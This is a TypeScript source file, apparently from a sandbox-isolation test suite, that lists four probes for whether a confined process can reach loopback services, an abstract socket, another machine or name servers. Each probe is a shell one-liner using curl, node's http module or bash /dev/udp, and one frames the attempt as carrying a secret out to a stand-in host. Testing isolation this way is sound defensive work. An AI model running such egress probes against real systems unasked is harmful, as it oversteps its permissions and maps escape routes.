import type { Attack } from "./attack.ts";

const OWN_NETWORK = "a network of its own (`--network`)";

/** What leads to other services and machines. Nothing leaves this one: where there is a way out, its being there is enough. */
export const CALLERS: readonly Attack[] = [
  {
    name: "host-loopback",
    tries: "talk to a service on the machine's loopback",
    script: `curl -s --max-time 5 http://127.0.0.1:@PORT@/ | grep -q CANARY && echo GOT; curl -sS --max-time 5 http://127.0.0.1:@PORT@/ >/dev/null; true`,
    stoppedBy: OWN_NETWORK,
    reported: "tried to connect to 127.0.0.1: not reached",
  },
  {
    name: "abstract-socket",
    tries: "talk to a service at an abstract socket",
    script: `"@NODE@" -e 'require("http").get({ socketPath: "\\0@SOCKET@" }, (got) => got.on("data", (text) => String(text).includes("CANARY") && console.log("GOT")))'; true`,
    stoppedBy: OWN_NETWORK,
    reported: "tried to connect to assay-neighbor",
  },
  {
    name: "other-host",
    tries: "talk to another machine",
    script: `if [ "$(wc -l < /proc/net/route)" -gt 1 ]; then echo GOT; else curl -sS --max-time 5 http://192.0.2.1/; fi; true`,
    stoppedBy: OWN_NETWORK,
    reported: "tried to connect to 192.0.2.1: not reached",
    untried: "no-network",
  },
  {
    name: "name-server",
    tries: "have name servers carry a secret away",
    // To connect for datagrams finds a way there and sends nothing.
    script: `for at in $(sed -n 's/^nameserver //p' /etc/resolv.conf | grep -v '^127'); do bash -c ": > /dev/udp/$at/53" 2>/dev/null && echo GOT && exit; done; curl -sS --max-time 5 http://secret.other-host.invalid/; true`,
    stoppedBy: OWN_NETWORK,
    reported: "tried to connect to secret.other-host.invalid: not reached",
    untried: "no-network",
  },
];
